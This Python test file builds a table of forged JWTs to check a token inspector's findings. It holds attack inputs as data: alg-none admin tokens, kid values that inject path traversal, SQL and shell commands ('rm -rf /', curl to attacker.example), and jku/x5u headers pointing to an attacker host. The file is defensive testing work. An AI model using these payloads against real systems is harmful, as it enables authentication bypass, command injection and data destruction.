"""An independent corpus of crafted tokens, written the way an attacker's tool (jwt_tool,
PortSwigger's JWT labs, the OWASP testing guide) or another engineer would craft them, plus
realistic clean tokens from the big identity providers.

Table-driven: each row is (description, input text, key, inspect_token keyword arguments,
ids that must appear, ids that must not appear). ``HIGH`` in the must-not column means "no
finding of severity error, critical or high" except the ids the row expects.

Tokens are built here byte by byte (no JWT library in between), so malformed ones can be made.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from functools import cache
from typing import Any

import pytest
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, padding, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature

from inspector.core import inspect_token
from inspector.core.fetched_keys import FetchedKeys
from inspector.core.findings import CATALOGUE, FAILING_SEVERITIES

#: 2025-06-15T15:06:40Z, the clock every row is judged at unless it says otherwise.
NOW = 1_750_000_000
HIGH = "HIGH"
#: 48 random-looking bytes, on no list.
STRONG = b"Vq3m9Zr1xT7cKp4LwN8bYh2sJd6fGa0eRu5tQiOyMvXzClPk"


# ------------------------------------------------------------------------------ crafting


def b64u(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).decode().rstrip("=")


def enc(part: Any) -> str:
    if isinstance(part, bytes):
        return b64u(part)
    if isinstance(part, str):
        return b64u(part.encode())
    return b64u(json.dumps(part, separators=(",", ":")).encode())


def hs(header: Any, payload: Any, secret: bytes | str = STRONG, alg: str | None = None) -> str:
    """HMAC-sign whatever header and payload (dicts, raw JSON text or bytes) are given."""
    if isinstance(secret, str):
        secret = secret.encode()
    if alg is None:
        alg = header.get("alg") if isinstance(header, dict) else None
        alg = alg if isinstance(alg, str) else "HS256"
    digests = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}
    digest = digests.get(alg, hashlib.sha256)  # other algs: a signature that will not verify
    si = f"{enc(header)}.{enc(payload)}"
    return f"{si}.{b64u(hmac.new(secret, si.encode(), digest).digest())}"


def unsigned(header: Any, payload: Any, sig: str = "") -> str:
    return f"{enc(header)}.{enc(payload)}.{sig}"


@cache
def rsa_priv(bits: int = 2048) -> rsa.RSAPrivateKey:
    return rsa.generate_private_key(public_exponent=65537, key_size=bits)


@cache
def ec_priv(curve: str = "P-256") -> ec.EllipticCurvePrivateKey:
    return ec.generate_private_key({"P-256": ec.SECP256R1(), "P-384": ec.SECP384R1()}[curve])


def pub_pem(key: Any) -> str:
    return (
        key.public_key()
        .public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
        .decode()
    )


def rs(header: dict, payload: Any, bits: int = 2048) -> str:
    si = f"{enc(header)}.{enc(payload)}".encode()
    sig = rsa_priv(bits).sign(si, padding.PKCS1v15(), hashes.SHA256())
    return f"{si.decode()}.{b64u(sig)}"


def es(header: dict, payload: Any, der: bool = False) -> str:
    si = f"{enc(header)}.{enc(payload)}".encode()
    sig = ec_priv("P-256").sign(si, ec.ECDSA(hashes.SHA256()))
    if not der:
        r, s = decode_dss_signature(sig)
        sig = r.to_bytes(32, "big") + s.to_bytes(32, "big")
    return f"{si.decode()}.{b64u(sig)}"


def jwk_rsa(key: rsa.RSAPrivateKey, **extra: Any) -> dict:
    n = key.public_key().public_numbers()

    def i2b(i: int) -> str:
        return b64u(i.to_bytes((i.bit_length() + 7) // 8, "big"))

    return {"kty": "RSA", "n": i2b(n.n), "e": i2b(n.e), **extra}


def claims(**over: Any) -> dict:
    """An ordinary access token's claims, valid at NOW; ``None`` values remove a claim."""
    base = {
        "iss": "https://login.example.org/",
        "sub": "248289761001",
        "aud": "https://api.example.org",
        "iat": NOW - 300,
        "nbf": NOW - 300,
        "exp": NOW + 600,
        "jti": "b1e0a6c4-9d1f-4f1e-8a63-2f6d1c0e9b7a",
        "scope": "read:orders",
    }
    base.update(over)
    return {k: v for k, v in base.items() if v is not None}


H = {"alg": "HS256", "typ": "JWT"}


def ok(**over: Any) -> str:
    """A clean HS256 token (strong secret) with some claims changed."""
    return hs(H, claims(**over))


def with_payload(payload: Any, header: dict | None = None) -> str:
    return hs(header or H, payload)


# ------------------------------------------------------------------------------ rows

ROWS: list[Any] = []


def row(
    desc: str,
    text: str,
    must: tuple[str, ...] | list[str] = (),
    must_not: tuple[str, ...] | list[str] | str = (),
    key: str | None = None,
    **kwargs: Any,
) -> None:
    kwargs.setdefault("now", NOW)
    ROWS.append(pytest.param(text, key, kwargs, tuple(must), must_not, id=desc))


# ---- alg none, every casing, with and without the trailing dot, with a leftover signature
_NONE_CLAIMS = claims(sub="administrator", role="admin")
for casing in ("none", "None", "NONE", "nOnE", "NoNe", "nonE"):
    row(
        f"alg-{casing}-trailing-dot",
        unsigned({"alg": casing, "typ": "JWT"}, _NONE_CLAIMS),
        ["alg-none"],
        ["invalid-signature"],
    )
row(
    "alg-none-kept-original-signature",
    unsigned({"alg": "none", "typ": "JWT"}, _NONE_CLAIMS, ok().split(".")[2]),
    ["alg-none"],
)
row("alg-none-no-trailing-dot", unsigned({"alg": "none"}, _NONE_CLAIMS)[:-1], ["alg-none"])
row(
    "alg-none-with-key-given",
    unsigned({"alg": "none"}, _NONE_CLAIMS),
    ["alg-none"],
    key=STRONG.decode(),
)
row(
    "alg-None-with-rsa-key-given",
    unsigned({"alg": "None"}, _NONE_CLAIMS),
    ["alg-none"],
    key=pub_pem(rsa_priv(2048)),
)
row(
    "alg-none-header-only-alg",
    unsigned({"alg": "none"}, {"sub": "x", "exp": NOW + 60}),
    ["alg-none"],
)
row("alg-HS256-is-not-none", ok(), [], ["alg-none"])

# ---- kid injection (jwt_tool / PortSwigger payloads)
_KIDS = [
    ("kid-traversal-dev-null", "../../../../../../../dev/null"),
    ("kid-absolute-dev-null", "/dev/null"),
    ("kid-traversal-etc-passwd", "../../../../etc/passwd"),
    ("kid-absolute-etc-passwd", "/etc/passwd"),
    ("kid-proc-self-environ", "/proc/self/environ"),
    ("kid-traversal-urlencoded", "..%2f..%2f..%2fdev%2fnull"),
    ("kid-traversal-fully-urlencoded", "%2e%2e%2f%2e%2e%2fdev%2fnull"),
    ("kid-traversal-windows", "..\\..\\..\\windows\\win.ini"),
    ("kid-windows-drive", "C:\\Windows\\win.ini"),
    ("kid-file-url", "file:///dev/null"),
    ("kid-sql-union", "' UNION SELECT 'key"),
    ("kid-sql-union-lab", "xxx' UNION SELECT 'ATTACKER';-- "),
    ("kid-sql-or-true", "1' OR '1'='1"),
    ("kid-sql-comment", "key1'--"),
    ("kid-sql-union-no-quote", "1 UNION SELECT password FROM users"),
    ("kid-shell-pipe", "| whoami"),
    ("kid-shell-subst", "$(id)"),
    ("kid-shell-semicolon", "key; rm -rf /"),
    ("kid-shell-backticks", "`id`"),
    ("kid-shell-and", "key && curl http://attacker.example/x"),
    ("kid-shell-newline", "key\nid"),
    ("kid-shell-redirect", "key > /tmp/pwned"),
    ("kid-null-byte", "key\u0000.pem"),
    ("kid-null-byte-urlencoded", "../keys/secret.key%00"),
    ("kid-traversal-relative-key", "../../public/css/main.css"),
]
for desc, kid in _KIDS:
    row(desc, hs({"alg": "HS256", "typ": "JWT", "kid": kid}, claims()), ["kid-injection"])
row(
    "kid-dev-null-signed-with-empty-secret (jwt_tool)",
    hs({"alg": "HS256", "typ": "JWT", "kid": "../../../../../../dev/null"}, claims(), b""),
    ["kid-injection", "weak-secret"],
)
_CLEAN_KIDS = [
    ("kid-uuid", "6f1c2b3a-8d4e-4f5a-9b6c-7d8e9f0a1b2c"),
    ("kid-thumbprint", "nOo3ZDrODXEK1jKWhXslHR_KXEg"),
    ("kid-cognito-std-base64", "4gkYw0Vd+8mZGv4DV2jQR7iCw1Yt0Qc/LzWAGRKhx8I="),
    ("kid-hex", "a3f2c9e1b4d87e6f"),
    ("kid-dated", "2025-06-01"),
    ("kid-dotted-version", "signing.key.v2"),
    ("kid-number", 42),
    ("kid-okta-style", "aBcD1234_eFgH-5678"),
    ("kid-path-like-name", "keys/prod/2025"),
    ("kid-url", "https://keys.example.com/jwks#key-1"),
]
for desc, kid in _CLEAN_KIDS:
    row(desc, hs({"alg": "HS256", "typ": "JWT", "kid": kid}, claims()), [], ["kid-injection"])

# ---- keys the token brings or points to
row(
    "jku-to-attacker",
    hs({"alg": "RS256", "jku": "https://attacker.example/jwks.json", "kid": "1"}, claims()),
    ["jku-header"],
)
row(
    "jku-localhost-ssrf",
    hs({"alg": "RS256", "jku": "http://127.0.0.1:8080/.well-known/jwks.json"}, claims()),
    ["jku-header"],
)
row(
    "x5u-to-attacker",
    hs({"alg": "RS256", "x5u": "https://attacker.example/cert.pem"}, claims()),
    ["x5u-header"],
)
row(
    "embedded-jwk-cve-2018-0114",
    rs({"alg": "RS256", "typ": "JWT", "jwk": jwk_rsa(rsa_priv(2048), kid="attacker")}, claims()),
    ["embedded-jwk"],
)
row(
    "embedded-jwk-with-server-key",
    rs({"alg": "RS256", "jwk": jwk_rsa(rsa_priv(2048))}, claims()),
    ["embedded-jwk"],
    key=pub_pem(ec_priv("P-256")),
)
row("x5c-chain", hs({"alg": "RS256", "x5c": ["MIIBszCCAVmgAwIBAgIU"]}, claims()), ["x5c-header"])
row(
    "jku-and-kid-injection",
    hs({"alg": "HS256", "jku": "https://attacker.example/k", "kid": "/dev/null"}, claims()),
    ["jku-header", "kid-injection"],
)
row("no-key-headers", ok(), [], ["jku-header", "x5u-header", "embedded-jwk", "x5c-header"])

# ---- crit and b64
row(
    "crit-unknown-extension",
    hs({"alg": "HS256", "crit": ["exp"], "exp": NOW + 60}, claims()),
    ["crit-header"],
)
row(
    "crit-unknown-extension-http",
    hs(
        {"alg": "HS256", "crit": ["http://example.com/ext"], "http://example.com/ext": True},
        claims(),
    ),
    ["crit-header"],
)
row(
    "crit-not-array-string",
    hs({"alg": "HS256", "crit": "b64", "b64": True}, claims()),
    ["crit-header"],
)
row("crit-not-array-object", hs({"alg": "HS256", "crit": {"x": 1}}, claims()), ["crit-header"])
row("crit-empty-array", hs({"alg": "HS256", "crit": []}, claims()), ["crit-header"])
row("crit-names-missing-param", hs({"alg": "HS256", "crit": ["foo"]}, claims()), ["crit-header"])
row("crit-names-registered-alg", hs({"alg": "HS256", "crit": ["alg"]}, claims()), ["crit-header"])
row(
    "crit-b64-understood",
    hs({"alg": "HS256", "b64": False, "crit": ["b64"]}, "$.02"),
    ["b64-false"],
    ["crit-header"],
)
row("b64-false-without-crit", hs({"alg": "HS256", "b64": False}, "$.02"), ["b64-false"])
row("b64-string-false", hs({"alg": "HS256", "b64": "false"}, claims()), ["b64-false"])
row("b64-true-is-fine", hs({"alg": "HS256", "b64": True}, claims()), [], ["b64-false"])

# ---- algorithm names and typ
row(
    "eddsa-deprecated-name",
    unsigned({"alg": "EdDSA"}, claims(), b64u(bytes(64))),
    ["deprecated-alg-name"],
)
row(
    "ed25519-fully-specified",
    unsigned({"alg": "Ed25519"}, claims(), b64u(bytes(64))),
    [],
    ["deprecated-alg-name"],
)
row(
    "typ-at+jwt-without-at-claims",
    hs({"alg": "HS256", "typ": "at+jwt"}, {"sub": "x", "exp": NOW + 60}),
    ["typ-mismatch"],
)
row("typ-text-plain", hs({"alg": "HS256", "typ": "text/plain"}, claims()), ["typ-mismatch"])
row("typ-lowercase-jwt", hs({"alg": "HS256", "typ": "jwt"}, claims()), [], ["typ-mismatch"])
row(
    "typ-at+jwt-complete",
    hs({"alg": "HS256", "typ": "at+jwt"}, claims(client_id="s6BhdRkqt3")),
    [],
    ["typ-mismatch"],
)

# ---- time claims
row("exp-past", ok(exp=NOW - 3600), ["expired"])
row("exp-past-by-a-second", ok(exp=NOW - 1), ["expired"])
row("exp-equals-now", ok(exp=NOW), ["expired"])
row("exp-future", ok(), [], ["expired", "not-yet-valid", "issued-in-future", "bad-time-claim"])
row("exp-string", ok(exp="1700000000"), ["bad-time-claim"])
row("exp-iso-string", ok(exp="2025-06-16T00:00:00Z"), ["bad-time-claim"])
row("exp-milliseconds", ok(exp=(NOW + 600) * 1000), ["bad-time-claim"])
row("iat-milliseconds", ok(iat=(NOW - 300) * 1000), ["bad-time-claim"])
row("exp-microseconds", ok(exp=(NOW + 600) * 1_000_000), ["bad-time-claim"])
row("exp-negative", ok(exp=-1), ["bad-time-claim"])
row("exp-null", with_payload({**claims(), "exp": None}), ["bad-time-claim"])
row("exp-boolean", with_payload({**claims(), "exp": True}), ["bad-time-claim"])
row("exp-array", with_payload({**claims(), "exp": [NOW + 60]}), ["bad-time-claim"])
row("exp-float-valid", ok(exp=NOW + 600.5), [], ["bad-time-claim", "expired"])
row("exp-float-past", ok(exp=NOW - 0.25), ["expired"], ["bad-time-claim"])
row(
    "exp-exponent-float",
    with_payload('{"sub":"a","exp":1.7500006e9,"jti":"x"}'),
    [],
    ["bad-time-claim", "expired"],
)
row("nbf-future", ok(nbf=NOW + 3600, exp=NOW + 7200), ["not-yet-valid"])
row("nbf-string", ok(nbf="soon"), ["bad-time-claim"])
row("iat-future", ok(iat=NOW + 3600, exp=NOW + 7200, nbf=None), ["issued-in-future"])
row("auth-time-string", ok(auth_time="yesterday"), ["bad-time-claim"])
row("auth-time-negative", ok(auth_time=-100), ["bad-time-claim"])
row("nbf-after-exp", ok(nbf=NOW + 1000, exp=NOW + 500, iat=NOW - 10), ["nbf-after-exp"])
row("nbf-equals-exp", ok(nbf=NOW + 500, exp=NOW + 500), ["nbf-after-exp"])
row("lifetime-one-year", ok(iat=NOW - 60, nbf=None, exp=NOW - 60 + 365 * 86400), ["long-lifetime"])
row("lifetime-two-days", ok(iat=NOW - 60, nbf=None, exp=NOW - 60 + 2 * 86400), ["long-lifetime"])
row("lifetime-one-hour", ok(iat=NOW - 60, exp=NOW + 3540), [], ["long-lifetime"])
row("lifetime-from-nbf", ok(iat=None, nbf=NOW - 60, exp=NOW + 40 * 86400), ["long-lifetime"])
row("missing-exp", ok(exp=None), ["missing-exp"])
row(
    "only-sub",
    with_payload({"sub": "1234567890", "name": "John Doe", "iat": 1516239022}),
    ["missing-exp"],
    ["expired", "bad-time-claim"],
)
row("leeway-saves-just-expired", ok(exp=NOW - 10), [], ["expired"], leeway=30)
row("leeway-boundary-expired", ok(exp=NOW - 30), ["expired"], leeway=30)
row("leeway-too-small", ok(exp=NOW - 31), ["expired"], leeway=30)
row("leeway-nbf-skew", ok(nbf=NOW + 20), [], ["not-yet-valid"], leeway=30)
row("nbf-equals-now", ok(nbf=NOW), [], ["not-yet-valid"])
row("nbf-just-future-no-leeway", ok(nbf=NOW + 1), ["not-yet-valid"])
row("leeway-iat-skew", ok(iat=NOW + 20, nbf=None), [], ["issued-in-future"], leeway=30)
row("leeway-not-enough-for-nbf", ok(nbf=NOW + 120), ["not-yet-valid"], leeway=30)
row("clock-far-later", ok(), ["expired"], now=NOW + 86400)
row("clock-far-earlier", ok(), ["not-yet-valid", "issued-in-future"], now=NOW - 86400)

# ---- audience and issuer
_AUD = "https://api.example.org"
row("aud-string-match", ok(), [], ["aud-mismatch"], audience=_AUD)
row("aud-string-mismatch", ok(aud="https://other.example.org"), ["aud-mismatch"], audience=_AUD)
row(
    "aud-array-with-expected",
    ok(aud=["https://x.example", _AUD]),
    [],
    ["aud-mismatch"],
    audience=_AUD,
)
row(
    "aud-array-without-expected",
    ok(aud=["https://x.example", "https://y.example"]),
    ["aud-mismatch"],
    audience=_AUD,
)
row("aud-empty-array", ok(aud=[]), ["aud-mismatch"], audience=_AUD)
row("aud-missing", ok(aud=None), ["aud-mismatch"], audience=_AUD)
row("aud-case-differs", ok(aud="HTTPS://API.EXAMPLE.ORG"), ["aud-mismatch"], audience=_AUD)
row("aud-number", ok(aud=12345), ["aud-mismatch"], audience="12345")
row("aud-prefix-trick", ok(aud=_AUD + ".attacker.example"), ["aud-mismatch"], audience=_AUD)
row("aud-not-checked-without-expectation", ok(aud="anything"), [], ["aud-mismatch"])
_ISS = "https://login.example.org/"
row("iss-match", ok(), [], ["iss-mismatch"], issuer=_ISS)
row("iss-mismatch", ok(iss="https://evil.example/"), ["iss-mismatch"], issuer=_ISS)
row("iss-trailing-slash", ok(iss="https://login.example.org"), ["iss-mismatch"], issuer=_ISS)
row("iss-missing", ok(iss=None), ["iss-mismatch"], issuer=_ISS)
row("iss-array", ok(iss=[_ISS]), ["iss-mismatch"], issuer=_ISS)
row(
    "iss-and-aud-both-wrong",
    ok(iss="a", aud="b"),
    ["iss-mismatch", "aud-mismatch"],
    issuer=_ISS,
    audience=_AUD,
)
row("missing-jti", ok(jti=None), ["missing-jti"])
row("has-jti", ok(), [], ["missing-jti"])

# ---- sensitive claims by name, at any depth and in any spelling
_SECRET_NAMES = [
    ("password", {"password": "hunter2"}),
    ("Password-capitalised", {"Password": "Winter2025!"}),
    ("PASSWORD-upper", {"PASSWORD": "Winter2025!"}),
    ("passwd", {"passwd": "letmein"}),
    ("pwd", {"pwd": "correcthorse"}),
    ("db_password", {"db_password": "pg-prod-pw"}),
    ("dbPassword", {"config": {"dbPassword": "pg-prod-pw"}}),
    ("clientSecret", {"clientSecret": "8Q~abcdefghijklmnopqrstuvwxyz"}),
    ("client_secret", {"client_secret": "s3-client-value-xyz"}),
    ("apiKey", {"apiKey": "k-93be1c2a7d"}),
    ("api_key", {"api_key": "k-93be1c2a7d"}),
    ("X-API-KEY", {"X-API-KEY": "k-93be1c2a7d"}),
    ("private_key", {"private_key": "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC"}),
    ("privateKey", {"privateKey": "base64stuff"}),
    ("secret", {"secret": "abc"}),
    (
        "nested-user-credentials-password",
        {"user": {"name": "alice", "credentials": {"password": "hunter2"}}},
    ),
    ("password-in-array-of-objects", {"accounts": [{"login": "a", "password": "p1"}]}),
    ("pin-number", {"pin": 1234}),
    ("cvv", {"card": {"cvv": "123"}}),
    (
        "aws_secret_access_key",
        {"aws_secret_access_key": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"},
    ),
    ("refresh_token-claim", {"refresh_token": "8xLOxBtZp8"}),
    ("namespaced-password", {"https://example.com/claims/password": "p"}),
    ("passphrase", {"ssh": {"passphrase": "correct horse"}}),
    ("signing_secret", {"signing_secret": "abcdef0123"}),
]
for desc, payload in _SECRET_NAMES:
    row(f"secret-name-{desc}", with_payload(claims(**payload)), ["sensitive-claim"])
_NOT_SECRETS = [
    ("email_verified-bool", {"email_verified": True}),
    ("pwd_last_set-timestamp", {"pwd_last_set": 1700000000}),
    ("password-null", {"password": None}),
    ("password-empty", {"password": ""}),
    ("password-bool", {"password_set": True, "password": False}),
    ("has_password", {"has_password": True}),
    ("amr-pwd", {"amr": ["pwd", "mfa"]}),
    ("password_changed_at", {"password_changed_at": 1700000000}),
    ("passwordless", {"passwordless": True}),
    ("public_key-name", {"public_key_id": "k1"}),
    ("sub-digits", {"sub": "1234567890"}),
    ("uuid-sub", {"sub": "5f1c1e7c-3a9b-4b0e-9f6c-2a3d4e5f6a7b"}),
    ("token_type", {"token_type": "Bearer"}),
    ("secret-question-bool", {"mfa": {"secret_configured": True}}),
]
for desc, payload in _NOT_SECRETS:
    row(
        f"not-secret-{desc}",
        with_payload(claims(**payload)),
        [],
        ["sensitive-claim", "sensitive-value"],
    )

# ---- personal data by name (low)
_PII = [
    ("email", {"email": "alice@example.com"}),
    ("Email-capital", {"Email": "alice@example.com"}),
    ("phone_number", {"phone_number": "+1 202 555 0143"}),
    ("phoneNumber", {"profile": {"phoneNumber": "+442071838750"}}),
    ("address-object", {"address": {"street_address": "1 Main St", "locality": "Springfield"}}),
    ("address-string", {"address": "221B Baker Street, London"}),
    ("birthdate", {"birthdate": "1990-04-01"}),
    ("date_of_birth", {"date_of_birth": "1990-04-01"}),
    ("national_id", {"national_id": "AB123456C"}),
    ("passport_number", {"passport_number": "X1234567"}),
    ("nested-contact-mail", {"user": {"contact": {"mail": "bob@example.com"}}}),
]
for desc, payload in _PII:
    row(f"pii-{desc}", with_payload(claims(**payload)), ["pii-claim"], ["sensitive-claim"])

# ---- sensitive values, whatever the claim is called
_VALUES = [
    ("visa-plain", "4111111111111111"),
    ("visa-spaces", "4111 1111 1111 1111"),
    ("visa-dashes", "4111-1111-1111-1111"),
    ("visa-4012", "4012888888881881"),
    ("mastercard", "5555555555554444"),
    ("mastercard-2series", "2223003122003222"),
    ("mastercard-spaces", "5105 1051 0510 5100"),
    ("amex", "378282246310005"),
    ("amex-grouped", "3782 822463 10005"),
    ("amex-371449", "371449635398431"),
    ("discover", "6011111111111117"),
    ("jcb", "3530111333300000"),
    ("diners-14", "30569309025904"),
    ("card-in-sentence", "paid with 4242 4242 4242 4242 on 2025-06-01"),
    ("ssn-woolworth", "078-05-1120"),
    ("ssn-123-45-6789", "123-45-6789"),
    ("iban-de", "DE89370400440532013000"),
    ("iban-gb", "GB82WEST12345698765432"),
    ("iban-gb-spaced", "GB82 WEST 1234 5698 7654 32"),
    ("iban-fr", "FR1420041010050500013M02606"),
    ("iban-nl", "NL91ABNA0417164300"),
    (
        "pem-pkcs8",
        "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQ\n"
        "-----END PRIVATE KEY-----\n",
    ),
    ("pem-rsa", "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n-----END RSA PRIVATE KEY-----"),
    ("pem-ec", "-----BEGIN EC PRIVATE KEY-----\nMHcCAQEEIIr\n-----END EC PRIVATE KEY-----"),
    (
        "pem-openssh",
        "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END "
        "OPENSSH PRIVATE KEY-----",
    ),
    (
        "pem-encrypted",
        "-----BEGIN ENCRYPTED PRIVATE KEY-----\nMIIFHDBOBgkqhkiG9w0BBQ0w\n"
        "-----END ENCRYPTED PRIVATE KEY-----",
    ),
    ("bcrypt-2b", "$2b$12$KIXQJm0Y6p8R5e1f3l7xZuY9uSxQ3wqP1Kz8m0cXyV5Jr2bT6nH4e"),
    ("bcrypt-2a", "$2a$10$N9qo8uLOickgx2ZMRZoMyeIjZAgcfl7p92ldGxad68LJZdL17lhWy"),
    ("argon2id", "$argon2id$v=19$m=65536,t=3,p=4$c29tZXNhbHQxMjM$RdescudvJCsgt3ub+b+dWRWJTmaaJObG"),
    (
        "sha512crypt",
        "$6$rounds=5000$usesomesillystri$D4IrlXatmP7rx3P3InaxBeoomnAihCKRVQP22JZ6EY47Wc"
        "6BkroIuUUBOov1i.S5KPgErtP/EN5mcO.ChWQW21",
    ),
    ("md5crypt", "$1$saltsalt$qjXMvbEw8oaL.CzflDugX/"),
    (
        "django-pbkdf2",
        "pbkdf2_sha256$600000$Gq1vT0e8Yw4Q$2u9eM4hO0xkWbQm1N3pZ0Yx6q8sR7t5uVwXyZaBcDeF=",
    ),
    ("aws-akia", "AKIAIOSFODNN7EXAMPLE"),
    ("aws-asia", "ASIAY34FZKBOKMUTVV7A"),
    ("github-ghp", "ghp_" + "aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5"),
    ("github-gho", "gho_" + "16C7e42F292c6912E7710c838347Ae178B4a"),
    ("github-fine-grained", "github_pat_11ABCDEFG0" + "a" * 72),
    ("slack-xoxb", "xoxb-" + "1234567890" + "12-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx"),
    ("slack-xoxp", "xoxp-" + "1234567890" + "12-1234567890123-1234567890123-abcdef"),
    (
        "slack-webhook",
        "https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX",
    ),
    ("stripe-live", "sk_live_" + "4eC39HqLyjWDarjtT1zdp7dc"),
    ("stripe-test", "sk_test_" + "4eC39HqLyjWDarjtT1zdp7dc"),
    ("stripe-restricted", "rk_live_" + "51H8xYzAbCdEfGhIjKlMnOpQr"),
    ("google-aiza", "AIza" + "SyDaGmWKa4JsXZ-HjGw7ISLn_3namBGewQe"),
    ("google-oauth-secret", "GOCSPX-" + "1a2B3c4D5e6F7g8H9i0JkLmNoPqR"),
    ("gitlab-pat", "glpat-" + "xxxxxxxxxxxxxxxxxxxx"),
    (
        "openai-project-key",
        "sk-proj-"
        + "Ab12Cd34Ef56Gh78Ij90Kl12Mn34Op56Qr78St90Uv12Wx34T3BlbkFJ"
        + "Yz12Ab34Cd56Ef78Gh90Ij12Kl34",
    ),
    ("openai-legacy-key", "sk-" + "Ab12Cd34Ef56Gh78Ij90T3BlbkFJKl12Mn34Op56Qr78St90"),
]
for desc, value in _VALUES:
    row(f"value-{desc}", with_payload(claims(note=value)), ["sensitive-value"])
row("value-card-as-number", with_payload(claims(card=4111111111111111)), ["sensitive-value"])
row(
    "value-card-deep-in-array",
    with_payload(claims(orders=[{"items": [{"pay": "5555555555554444"}]}])),
    ["sensitive-value"],
)
row("value-ssn-bare-by-name", with_payload(claims(ssn="078051120")), ["sensitive-value"])
row("value-ssn-number-by-name", with_payload(claims(ssn=219099999)), ["sensitive-value"])
row(
    "value-private-jwk",
    with_payload(claims(key={"kty": "EC", "crv": "P-256", "x": "a", "y": "b", "d": "c"})),
    ["sensitive-value"],
)
_NOT_VALUES = [
    ("non-luhn-16", "1234567812345678"),
    ("visa-off-by-one", "4111111111111112"),
    ("imei-luhn-15", "490154203237518"),
    ("snowflake-id", "1790000000000000000"),
    ("google-sub-21", "110169484474386276334"),
    ("ssn-area-000", "000-12-3456"),
    ("ssn-area-666", "666-12-3456"),
    ("date", "2025-06-15"),
    ("phone", "+1-202-555-0143"),
    ("iban-bad-check", "DE89370400440532013001"),
    (
        "public-key-pem",
        "-----BEGIN PUBLIC KEY-----\nMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE\n"
        "-----END PUBLIC KEY-----",
    ),
    (
        "certificate-pem",
        "-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIU\n-----END CERTIFICATE-----",
    ),
    ("stripe-publishable", "pk_live_" + "51H8xYzAbCdEfGhIjKlMnOpQr"),
    ("uuid", "123e4567-e89b-12d3-a456-426614174000"),
    ("sha256-hex", "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"),
    ("price", "USD 1,234,567.89"),
    ("template-placeholder", "${USER_ID}"),
    ("ms-timestamp-string", "1750000000000"),
]
for desc, value in _NOT_VALUES:
    row(f"no-value-{desc}", with_payload(claims(note=value)), [], ["sensitive-value"])

# ---- tokens inside tokens
_INNER = hs(H, claims(sub="inner"))
row("nested-token-claim", with_payload(claims(id_token=_INNER)), ["nested-token"])
row("nested-token-deep", with_payload(claims(act={"actor_token": _INNER})), ["nested-token"])
row("nested-token-payload-cty", hs({"alg": "HS256", "cty": "JWT"}, _INNER), ["nested-token"])
row(
    "refresh-token-claim-holding-jwt",
    with_payload(claims(refresh_token=_INNER)),
    ["nested-token", "sensitive-claim"],
)
row("eyJ-that-is-not-a-jwt", with_payload(claims(note="eyJhbGciOi.is.not")), [], ["nested-token"])

# ---- structure and encoding
_SIG = ok().split(".")[2]
_H, _P = enc(H), enc(claims())
row(
    "padded-header",
    f"{enc({'alg': 'HS256'})}=.{_P}.{_SIG}"
    if len(enc({"alg": "HS256"})) % 4 == 3
    else f"{_H}==.{_P}.{_SIG}",
    ["padded-base64"],
)
row("padded-signature", f"{_H}.{_P}.{_SIG}=", ["padded-base64"])
_STD = base64.b64encode(json.dumps(claims(q="???>>>"), separators=(",", ":")).encode()).decode()
row("standard-alphabet-payload", f"{_H}.{_STD.rstrip('=')}.{_SIG}", ["non-url-base64"])
row("bad-char-bang", f"{_H}.{_P[:10]}!{_P[10:]}.{_SIG}", ["bad-base64"])
row("bad-char-ellipsis", f"{_H}.{_P[:20]}\u2026.{_SIG}", ["bad-base64"])
row("bad-char-asterisk-signature", f"{_H}.{_P}.{_SIG[:5]}*{_SIG[6:]}", ["bad-base64"])
row(
    "impossible-length",
    f"{_H}.{_P}A.{_SIG}" if len(_P) % 4 == 0 else f"{_H}.{_P}.{_SIG}A",
    ["bad-base64"],
)
row("two-segments", f"{_H}.{_P}", ["malformed-segments"])
row("four-segments", f"{_H}.{_P}.{_SIG}.{_SIG}", ["malformed-segments"])
row("six-segments", ".".join([_H, _P, _SIG, _SIG, _SIG, _SIG]), ["malformed-segments"])
row("one-segment-header-only", _H, [], ["alg-none"])
row("header-not-json-text", f"{b64u(b'hello world')}.{_P}.{_SIG}", ["header-not-json"])
row("header-json-array", f"{enc([1, 2])}.{_P}.{_SIG}", ["header-not-json"])
row("header-truncated-json", b64u(b'{"alg":"HS256"') + f".{_P}.{_SIG}", ["header-not-json"])
row("payload-not-json", hs(H, b"just some text"), ["payload-not-json"])
row("payload-json-string", hs(H, b'"a string"'), ["payload-not-json"])
row(
    "duplicate-key-header-alg", hs('{"alg":"HS256","alg":"none"}', claims()), ["duplicate-json-key"]
)
row(
    "duplicate-key-payload-role",
    hs(H, '{"sub":"u1","role":"user","role":"admin","exp":' + str(NOW + 60) + "}"),
    ["duplicate-json-key"],
)
row(
    "duplicate-key-nested",
    hs(H, '{"sub":"u1","exp":' + str(NOW + 60) + ',"a":{"b":1,"b":2}}'),
    ["duplicate-json-key"],
)
row(
    "nan-in-payload",
    hs(H, '{"sub":"u1","exp":' + str(NOW + 60) + ',"score":NaN}'),
    ["non-standard-json"],
)
row("infinity-exp", hs(H, '{"sub":"u1","exp":Infinity}'), ["non-standard-json", "bad-time-claim"])
row("deep-nesting", hs(H, '{"a":' + "[" * 5000 + "]" * 5000 + "}"), ["json-too-complex"])
row("huge-number", hs(H, '{"a":' + "9" * 5000 + "}"), ["json-too-complex"])
row("invalid-utf8-payload", hs(H, b'{"sub":"\xff\xfe\xc3","exp":9999999999}'), ["invalid-utf8"])
